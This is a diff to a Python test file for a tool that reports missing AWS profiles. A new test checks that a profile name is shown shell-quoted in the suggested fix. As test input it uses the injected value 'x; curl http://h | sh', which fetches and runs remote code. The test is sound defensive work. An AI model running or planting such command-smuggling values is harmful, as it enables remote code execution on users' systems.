@@ -34,9 +34,22 @@ def test_a_profile_that_is_not_there_is_named_with_those_that_are(person):
     assert list(look(context)) == [
         NOT_FOUND.finding(
             Evidence("profile", "'work'", "AWS_PROFILE"),
-            facts={"source": "AWS_PROFILE", "profile": "work", "names": ("rek", "default")},
+            facts={
+                "source": "AWS_PROFILE",
+                "profile": "work",
+                "names": ("rek", "default"),
+                "quoted": "work",
+            },
         )
     ]
+
+
+@pytest.mark.parametrize("files", [(NAMED, KEYS), ()])
+def test_a_name_that_a_shell_would_run_is_told_in_quotes(person, files):
+    [found] = look(person(*files, AWS_PROFILE="x; curl http://h | sh"))
+    told = [step.text.format(**{**found.facts, **step.facts}) for step in found.remedy.steps]
+
+    assert [each for each in told if "setup --profile 'x; curl http://h | sh'." in each]
 
 
 def test_a_profile_that_is_not_there_stops_keys_of_the_environment_too(person):
